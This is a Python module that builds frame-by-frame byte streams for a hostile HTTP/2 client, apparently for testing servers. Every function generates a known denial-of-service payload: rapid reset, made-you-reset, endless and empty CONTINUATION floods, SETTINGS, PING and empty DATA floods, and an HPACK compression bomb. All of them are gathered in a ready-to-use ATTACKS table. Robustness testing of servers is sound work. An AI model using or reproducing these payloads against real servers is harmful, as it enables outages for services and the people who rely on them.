"""What a hostile HTTP/2 client sends, frame by frame.

Apart from the other clients because libraries keep the rules that these break. Names are those of RFC 9113, section 6.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
# GET, http and an authority of one letter; the path follows as a literal.
GET = b"\x82\x86\x41\x01a"
MANY = 1000


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame as it goes over the wire."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def head(path: bytes) -> bytes:
    """The header block of a GET."""
    return GET + b"\x04" + bytes([len(path)]) + path


def _streams() -> Iterator[int]:
    return iter(range(1, 2 * MANY, 2))


def _rapid_reset(path: bytes) -> bytes:
    """Requests that are reset at once, which frees the client's streams and not the server's work."""
    each = (
        frame(HEADERS, END_STREAM | END_HEADERS, number, head(path)) + frame(RST_STREAM, 0, number, b"\0\0\0\x08")
        for number in _streams()
    )
    return b"".join(each)


def _made_you_reset(path: bytes) -> bytes:
    """The same, but the server is made to reset, by a window update of nothing."""
    each = (
        frame(HEADERS, END_STREAM | END_HEADERS, number, head(path)) + frame(WINDOW_UPDATE, 0, number, b"\0\0\0\0")
        for number in _streams()
    )
    return b"".join(each)


def _continuation(path: bytes) -> bytes:
    """A header section that does not end."""
    field = b"\0\x01x\x7f\x81\x07" + b"v" * 1024
    return frame(HEADERS, END_STREAM, 1, head(path)) + frame(CONTINUATION, 0, 1, field) * MANY


def _empty_continuation(path: bytes) -> bytes:
    """The same with frames that carry nothing."""
    return frame(HEADERS, END_STREAM, 1, head(path)) + frame(CONTINUATION, 0, 1) * MANY * 20


def _settings(path: bytes) -> bytes:
    return frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * MANY * 10


def _ping(path: bytes) -> bytes:
    return frame(PING, 0, 0, b"12345678") * MANY * 10


def _empty_data(path: bytes) -> bytes:
    post = b"\x83" + GET[1:] + b"\x04" + bytes([len(path)]) + path
    return frame(HEADERS, END_HEADERS, 1, post) + frame(DATA, 0, 1) * MANY * 20


def _hpack_bomb(path: bytes) -> bytes:
    """One long field in the table, then thousands of references of one byte to it."""
    stored = b"\x40\x01x\x7f\x81\x1e" + b"v" * 3968
    block = head(path) + stored + b"\xbe" * 16000
    parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
    frames = [frame(HEADERS, END_STREAM, 1, parts[0]), *(frame(CONTINUATION, 0, 1, part) for part in parts[1:-1])]
    return b"".join(frames) + frame(CONTINUATION, END_HEADERS, 1, parts[-1])


ATTACKS: dict[str, Callable[[bytes], bytes]] = {
    "HTTP/2 rapid reset": _rapid_reset,
    "HTTP/2 made-you-reset": _made_you_reset,
    "HTTP/2 endless CONTINUATION": _continuation,
    "HTTP/2 empty CONTINUATION": _empty_continuation,
    "HTTP/2 SETTINGS": _settings,
    "HTTP/2 PING": _ping,
    "HTTP/2 empty DATA": _empty_data,
    "HTTP/2 HPACK bomb": _hpack_bomb,
}
